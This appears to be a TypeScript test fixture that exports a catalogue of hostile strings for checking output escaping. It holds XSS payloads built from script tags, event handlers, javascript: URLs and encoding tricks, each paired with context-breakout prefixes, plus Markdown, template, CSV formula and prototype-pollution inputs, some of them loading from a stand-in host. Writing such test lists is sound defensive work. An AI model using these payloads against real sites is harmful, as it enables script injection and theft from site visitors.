/**
 * Texts that run a script, or load something from elsewhere, wherever a page prints them as they are. `ran()` says that one
 * did. Ours, made of kinds: what runs, by which ways it gets out of where it stands, and forms of Markdown, CSV and templates.
 */

const elsewhere = 'https://elsewhere.example';

const elements = [
  '<script>ran()</script>',
  `<script src=data:text/javascript,ran()></script>`,
  '<ScRiPt>ran()</sCrIpT>',
  '<script/x>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img/src=x onerror=ran()>',
  '<IMG SRC=x OnErRoR=ran()>',
  '<img src=x onerror=&#114;an()>',
  '<img src=x onerror=\u0009ran()>',
  '<svg onload=ran()>',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
  '<svg><set onbegin=ran() attributeName=x dur=1s></svg>',
  '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<math><mtext><img src=x onerror=ran()></mtext></math>',
  '<math><style><img src=x onerror=ran()></style></math>',
  '<body onload=ran()>',
  '<iframe onload=ran()></iframe>',
  '<iframe src=javascript:parent.ran()></iframe>',
  '<iframe srcdoc=&lt;script&gt;parent.ran()&lt;/script&gt;></iframe>',
  '<object data=x onerror=ran()></object>',
  '<video src=x onerror=ran()></video>',
  '<video><source src=x onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<textarea autofocus onfocus=ran()></textarea>',
  '<button autofocus onfocus=ran()>b</button>',
  '<a href=# autofocus onfocus=ran()>a</a>',
  '<p tabindex=0 autofocus onfocus=ran()>p</p>',
  '<details open ontoggle=ran()><summary>s</summary></details>',
  '<style onload=ran()></style>',
  '<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=ran()>p</p>',
  '<link rel=stylesheet href=x onerror=ran()>',
  '<noscript><p title=</noscript><img src=x onerror=ran()>></noscript>',
  '<table><td background=x><img src=x onerror=ran()></table>',
  '<a href=javascript:ran()>a</a>',
  '<a href=JaVaScRiPt:ran()>a</a>',
  '<a href=&#106;avascript:ran()>a</a>',
  '<a href=java&#9;script:ran()>a</a>',
  '<a href=\u0001javascript:ran()>a</a>',
  '<form action=javascript:ran()><button>b</button></form>',
  '<form><button formaction=javascript:ran()>b</button></form>',
  `<img src=${elsewhere}/a.png>`,
  `<link rel=stylesheet href=${elsewhere}/a.css>`,
  `<style>@import url(${elsewhere}/b.css)</style>`,
  `<p style=background:url(${elsewhere}/c.png)>p</p>`,
  `<video poster=${elsewhere}/d.png></video>`,
  `<script src=${elsewhere}/e.js></script>`,
  `<iframe src=${elsewhere}/f></iframe>`,
  `<object data=${elsewhere}/g></object>`,
];

/** Each ends something in which a text may stand. */
const waysOut = ['', '>', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>'];

const inAttributes = [
  '" autofocus tabindex=0 onfocus=ran() x="',
  "' autofocus tabindex=0 onfocus=ran() x='",
  ' autofocus tabindex=0 onfocus=ran() ',
  '" onmouseover=ran() x="',
  'javascript:ran()',
  'JAVASCRIPT:ran()',
  'java\tscript:ran()',
  ' javascript:ran()',
  'data:text/html,<script>ran()</script>',
];

const inScripts = [
  "'-ran()-'",
  '"-ran()-"',
  "';ran();//",
  '";ran();//',
  "\\';ran();//",
  '\u2028ran()//',
  '$'.concat('{ran()}'),
  '</script><script>ran()//',
  '<!--<script>ran()//',
];

/** For Markdown, templates and spreadsheets: none of them runs on a page that merely prints it. */
const otherForms = [
  '[a](javascript:ran())',
  '[a](<javascript:ran()>)',
  '[a](JaVaScRiPt:ran())',
  '[a](java&#115;cript:ran())',
  '[a](\u0001javascript:ran())',
  '[a](vbscript:ran())',
  '[a](data:text/html,<script>ran()</script>)',
  '[a][b]\n\n[b]: javascript:ran()',
  '<javascript:ran()>',
  '![a](javascript:ran())',
  `![a](${elsewhere}/h.png)`,
  '![a](x onerror=ran())',
  '[a](x onclick=ran())',
  '`<img src=x onerror=ran()>`',
  '    <img src=x onerror=ran()>',
  '```html\n<img src=x onerror=ran()>\n```',
  '**<img src=x onerror=ran()>**',
  '> <script>ran()</script>',
  ':b[x]{onclick=ran() style=color:red}',
  '::b[x]{src=x onerror=ran()}',
  '&lt;img src=x onerror=ran()&gt;',
  '&amp;lt;script&amp;gt;ran()',
  "{{constructor.constructor('ran()')()}}",
  '<%= ran() %>',
  '#{ran()}',
  "=HYPERLINK('https://elsewhere.example/i')",
  '+ran()',
  '-ran()',
  '@SUM(1+1)',
  '\u202eran()\u202c',
  '__proto__',
  'constructor',
];

/** What a page that prints its texts as they are runs or loads. */
export const runningStrings: readonly string[] = [
  ...elements.flatMap((element) => waysOut.map((out) => out + element)),
  ...inAttributes,
  ...inScripts,
];

export const hostileStrings: readonly string[] = [...runningStrings, ...otherForms];
